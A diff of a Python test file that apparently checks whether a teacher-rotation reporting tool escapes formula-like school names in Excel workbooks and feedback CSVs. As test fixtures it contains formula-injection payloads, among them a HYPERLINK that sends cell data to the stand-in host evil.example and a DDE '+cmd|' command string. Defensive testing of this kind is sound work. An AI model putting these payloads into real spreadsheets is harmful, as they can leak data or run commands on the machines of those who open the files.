@@ -386,34 +386,37 @@ def test_an_unwritable_outbox_fails_the_take_and_the_feedback_arrives_later(city
 
 
 def test_reference_names_that_look_like_formulas_stay_text_in_every_workbook(tmp_path):
-    from openpyxl import Workbook, load_workbook
+    """A school name from the reference data such as ``=HYPERLINK(...)`` became a live formula in
+    the rotation and assessment workbooks; both are written through ``reports.xlsx_kit``, the
+    feedback CSV and the templates through the same helper."""
+    import csv
 
-    from teachflow.reports.rotation import RotationReportData
-    from teachflow.reports.rotation_excel import write_rotation_workbook
-    from teachflow.scoring.excel import _sheet
+    from openpyxl import load_workbook
+
+    from teachflow.ingestion.feedback import write_feedback
+    from teachflow.problems import Problem
+    from teachflow.reports.xlsx_kit import Book, Column
     from teachflow.spreadsheet_text import neutralize_formula
 
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
-    data = RotationReportData(
-        period="2026-10",
-        revision=1,
-        rows={"city": [], "county": [{"scope_code": NORTH, "scope_name": hostile}], "community": []},
-        overdue=[{"teacher_key": "t0", "flow_type": "rotation", "from_school_name": "+cmd|' /C calc'!A0"}],
-        active_by_type={},
+    book = Book(tmp_path / "report.xlsx", "交流轮岗月报")
+    ws, row = book.sheet("区县", as_of="截至 2026-10-31")
+    book.table(
+        ws,
+        row,
+        [Column("name", "学校", "name"), Column("n", "人数", "int")],
+        [{"name": hostile, "n": 3}, {"name": "+cmd|' /C calc'!A0", "n": 1}, {"name": "@SUM(1+1)", "n": 2}],
     )
-    write_rotation_workbook(data, tmp_path / "rotation.xlsx")
-    book = Workbook()
-    _sheet(book, "学校得分", ["学校", "分数"], [["@SUM(1+1)", 1.5], ["-5", 2]], [10, 10])
-    book.save(tmp_path / "assessment.xlsx")
-
-    cells = []
-    for name in ("rotation.xlsx", "assessment.xlsx"):
-        for sheet in load_workbook(tmp_path / name).worksheets:
-            cells += [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    book.close()
+    cells = [c for r in load_workbook(tmp_path / "report.xlsx")["区县"].iter_rows() for c in r if c.value is not None]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
-    values = {c.value for c in cells}
-    assert {"'" + hostile, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "-5"} <= values
-    assert neutralize_formula("\tx") == "'\tx" and neutralize_formula("12") == "12" and neutralize_formula(3) == 3
+    assert {"'" + hostile, "'+cmd|' /C calc'!A0", "'@SUM(1+1)"} <= {c.value for c in cells}
+
+    problems = [Problem("vocab_unknown", row=2, column="tier", value="-2+3", params={"allowed": "无"})]
+    files = write_feedback(tmp_path / "outbox", NORTH, PERIOD, "teachers", problems, {"outcome": "rejected"})
+    with files.csv.open(encoding="utf-8-sig", newline="") as f:
+        assert list(csv.reader(f))[1][2] == "'-2+3"
+    assert [neutralize_formula(v) for v in ("\tx", "\rx", "城中", 3, None)] == ["'\tx", "'\rx", "城中", 3, None]
 
 
 # --- 7. personal data in free text ------------------------------------------------------------------
